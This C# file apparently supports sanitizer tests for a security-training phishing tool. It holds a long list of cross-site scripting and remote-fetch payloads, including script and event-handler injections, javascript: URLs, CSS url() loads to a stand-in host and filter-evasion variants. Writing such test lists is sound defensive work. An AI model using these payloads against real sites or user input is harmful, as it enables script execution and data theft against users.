namespace SecurityTraining.Application.UseCaseTests.Phishing;

/// <summary>Text that runs, or fetches something, wherever it is taken for markup.</summary>
internal static class AttackStrings
{
    private const string Run = "executed();alert(1)";
    private const string Elsewhere = "http://evil.test/x";

    public static IReadOnlyList<string> All { get; } =
    [
        $"<script>{Run}</script>", $"<ScRiPt>{Run}</sCrIpT>", $"<script src={Elsewhere}></script>", $"<script\t>{Run}</script\t>", $"<script/x>{Run}</script>",
        $"<script>/*</script><script>*/{Run}</script>", $"<<script>{Run}//<</script>", $"<scr<script>ipt>{Run}</scr</script>ipt>",
        $"<img src=x onerror={Run}>", $"<img src=x onerror=\"{Run}\">", $"<img/src=x/onerror={Run}>", $"<img src=\"x\" ONERROR='{Run}'>", $"<img src={Elsewhere}>",
        $"<img srcset={Elsewhere}>", $"<img src=\"x`onerror={Run}\">", $"<image src=x onerror={Run}>", $"<img src=data:, onerror={Run}>",
        $"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{Run}'/>\">", $"<img lowsrc={Elsewhere} dynsrc={Elsewhere}>",
        $"<svg onload={Run}>", $"<svg/onload={Run}>", $"<svg><script>{Run}</script></svg>", $"<svg><animate onbegin={Run} attributeName=x dur=1s>",
        $"<svg><a xlink:href=\"javascript:{Run}\"><text y=20>x</text></a></svg>", $"<svg><use href={Elsewhere}#x></use></svg>", $"<svg><image href={Elsewhere}></svg>",
        $"<svg><foreignObject><body onload={Run}></foreignObject></svg>", $"<svg><style><img src=x onerror={Run}></style></svg>", $"<svg><set attributeName=onmouseover to={Run}></svg>",
        $"<math><mtext><table><mglyph><style><img src=x onerror={Run}></style></mglyph></table></mtext></math>", $"<math href=\"javascript:{Run}\">x</math>",
        $"<math><annotation-xml encoding=text/html><script>{Run}</script></annotation-xml></math>", $"<form><math><mtext></form><form><mglyph><style></math><img src onerror={Run}>",
        $"<body onload={Run}>", $"<body onpageshow={Run}>", $"<body background={Elsewhere}>", $"<html onclick={Run}>",
        $"<iframe src=\"javascript:{Run}\"></iframe>", $"<iframe srcdoc=\"<script>parent.{Run}</script>\"></iframe>", $"<iframe src={Elsewhere}></iframe>",
        $"<frameset onload={Run}><frame src={Elsewhere}></frameset>", $"<object data=\"javascript:{Run}\"></object>", $"<object data={Elsewhere}></object>",
        $"<embed src=\"javascript:{Run}\">", $"<embed src={Elsewhere}>", $"<applet code={Elsewhere}></applet>", $"<portal src={Elsewhere}></portal>",
        $"<a href=\"javascript:{Run}\">x</a>", $"<a href=\"JaVaScRiPt:{Run}\">x</a>", $"<a href=\" javascript:{Run}\">x</a>", $"<a href=\"java\tscript:{Run}\">x</a>",
        $"<a href=\"java\nscript:{Run}\">x</a>", $"<a href=\"&#106;avascript:{Run}\">x</a>", $"<a href=\"&#x6A;avascript:{Run}\">x</a>", $"<a href=\"javascript&colon;{Run}\">x</a>",
        $"<a href=\"data:text/html,<script>{Run}</script>\">x</a>", $"<a href=\"vbscript:{Run}\">x</a>", $"<a href=# ping={Elsewhere}>x</a>", $"<area href=\"javascript:{Run}\">",
        $"<link rel=stylesheet href={Elsewhere}>", $"<link rel=preload as=image href={Elsewhere}>", $"<link rel=dns-prefetch href={Elsewhere}>", $"<link rel=icon href={Elsewhere}>",
        $"<link rel=import href={Elsewhere}>", $"<base href={Elsewhere}/><img src=x.png>", $"<base href=\"javascript:{Run}//\"><a href=x>x</a>",
        $"<meta http-equiv=refresh content=\"0;url={Elsewhere}\">", $"<meta http-equiv=refresh content=\"0;url=javascript:{Run}\">", $"<meta http-equiv=\"Set-Cookie\" content=\"a=b\">",
        $"<style>@import '{Elsewhere}';</style>", $"<style>@import url({Elsewhere});</style>", $"<style>*{{background:url({Elsewhere})}}</style>", $"<style>*{{background:u\\72l({Elsewhere})}}</style>",
        $"<style>@font-face{{font-family:x;src:url({Elsewhere})}}*{{font-family:x}}</style>", $"<style>*{{list-style-image:url('{Elsewhere}');content:url({Elsewhere})}}</style>",
        $"<style>*{{background:image-set('{Elsewhere}' 1x)}}</style>", $"<style>*{{cursor:url({Elsewhere}),auto}}</style>", $"<style>input{{border-image:url({Elsewhere})}}</style>",
        $"<style></style><script>{Run}</script></style>", $"<style><!--</style><script>{Run}</script>--></style>", $"<style>*{{-moz-binding:url({Elsewhere});behavior:url({Elsewhere})}}</style>",
        $"<style>*{{content:\"<\\/style><img src=x onerror={Run}>\"}}</style>", $"<style>*{{content:\"<{{{{/style><img src=x onerror={Run}>\"}}</style>",
        $"<style>p{{background:ur{{{{l({Elsewhere})}}</style><p>x</p>", $"<style>*{{background:-webkit-image-set('{Elsewhere}' 1x)}}</style>",
        $"<div style=\"background:url({Elsewhere})\">x</div>", $"<div style=\"background:url('javascript:{Run}')\">x</div>", $"<div style=\"width:expression({Run})\">x</div>",
        $"<div style=\"background-image:image-set('{Elsewhere}' 1x)\">x</div>", $"<div style=\"--a:url({Elsewhere});background:var(--a)\">x</div>", $"<p style=\"mask-image:url({Elsewhere})\">x</p>",
        $"<div style=\"background:\\75 rl({Elsewhere})\">x</div>", $"<li style=\"list-style:url({Elsewhere})\">x</li>", $"<div style=\"filter:url({Elsewhere}#x)\">x</div>",
        $"<input autofocus onfocus={Run}>", $"<input onblur={Run} autofocus><input autofocus>", $"<input type=image src={Elsewhere}>", $"<input type=image src=x onerror={Run}>",
        $"<select autofocus onfocus={Run}>", $"<textarea autofocus onfocus={Run}>", $"<keygen autofocus onfocus={Run}>", $"<button onclick={Run}>x</button>",
        $"<form action=\"javascript:{Run}\"><button>x</button></form>", $"<form action={Elsewhere}><button>x</button></form>", $"<button formaction=\"javascript:{Run}\">x</button>",
        $"<form><button formaction={Elsewhere}>x</button></form>", $"<form id=f></form><button form=f formaction=\"javascript:{Run}\">x</button>", $"<isindex action=\"javascript:{Run}\" type=image>",
        $"<video src={Elsewhere}></video>", $"<video poster={Elsewhere}></video>", $"<video><source onerror={Run}></video>", $"<audio src=x onerror={Run}></audio>", $"<audio src={Elsewhere}></audio>",
        $"<track src={Elsewhere}>", $"<picture><source srcset={Elsewhere}><img></picture>", $"<marquee onstart={Run}>x</marquee>", $"<marquee loop=1 width=0 onfinish={Run}>x</marquee>",
        $"<details open ontoggle={Run}>x</details>", $"<dialog open onclose={Run}>x</dialog>", $"<div onmouseover={Run}>x</div>", $"<div onmouseenter=\"{Run}\">x</div>",
        $"<div onpointerover={Run}>x</div>", $"<div tabindex=1 onfocus={Run}>x</div>", $"<div contenteditable oninput={Run}>x</div>", $"<p onclick={Run}>x</p>",
        $"<style>@keyframes x{{}}</style><p style=\"animation-name:x\" onanimationstart={Run}>x</p>", $"<xss onclick={Run} tabindex=1>x</xss>", $"<custom-element onfocus={Run} tabindex=0>x</custom-element>",
        $"<table background={Elsewhere}><tr><td background={Elsewhere}>x</table>", $"<td background=\"javascript:{Run}\">", $"<bgsound src={Elsewhere}>", $"<layer src={Elsewhere}></layer>",
        $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\"></noscript>", $"<noembed><img title=\"</noembed><img src onerror={Run}>\"></noembed>", $"<xmp><p title=\"</xmp><img src=x onerror={Run}>\">",
        $"<title><p title=\"</title><img src=x onerror={Run}>\">", $"<textarea><p title=\"</textarea><img src=x onerror={Run}>\">", $"<template><script>{Run}</script></template><img src=x onerror={Run}>",
        $"<noframes><p title=\"</noframes><script>{Run}</script>\">", $"<plaintext><script>{Run}</script>", $"<select><template><img src=x onerror={Run}></template></select>",
        $"<!--><script>{Run}</script>-->", $"<!--<img src=\"--><img src=x onerror={Run}//\">", $"<![CDATA[><script>{Run}</script>]]>", $"<?xml-stylesheet href=\"javascript:{Run}\"?>",
        $"<!--[if gte IE 4]><script>{Run}</script><![endif]-->", $"</title><script>{Run}</script>", $"</style><script>{Run}</script>", $"</textarea><script>{Run}</script>",
        $"</script><script>{Run}</script>", $"\"><script>{Run}</script>", $"'><script>{Run}</script>", $"\" onmouseover=\"{Run}", $"' onmouseover='{Run}", $"\" autofocus onfocus=\"{Run}\" x=\"",
        $"`><img src=x onerror={Run}>", $"--><script>{Run}</script>", $"]]><script>{Run}</script>", $"javascript:{Run}", $"&lt;script&gt;{Run}&lt;/script&gt;", $"&#60;img src=x onerror={Run}&#62;",
        $"{{{{firstName|<img src=x onerror={Run}>}}}}", $"<a title=\"{{{{firstName}}}}\" {{{{lastName}}}}>x</a>", $"<div {{{{firstName}}}}>x</div>", $"<img alt={{{{firstName}}}}>",
        $"<p style=\"{{{{firstName}}}}\">x</p>", $"<style>{{{{firstName}}}}</style>", $"<img src=\"{{{{firstName}}}}\">", $"<a href=\"{{{{firstName}}}}\">x</a>",
    ];
}
